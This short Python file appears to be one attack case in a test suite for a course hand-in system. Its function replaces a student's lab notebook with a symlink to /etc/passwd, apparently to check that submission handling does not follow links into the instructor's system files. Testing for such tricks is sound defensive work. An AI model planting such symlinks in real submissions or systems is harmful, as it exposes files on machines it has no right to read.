"""The notebook is a link to a file of the instructor's machine."""

from attacks import LAB


def hand_in(folder):
    (folder / f"{LAB}.ipynb").unlink()
    (folder / f"{LAB}.ipynb").symlink_to("/etc/passwd")
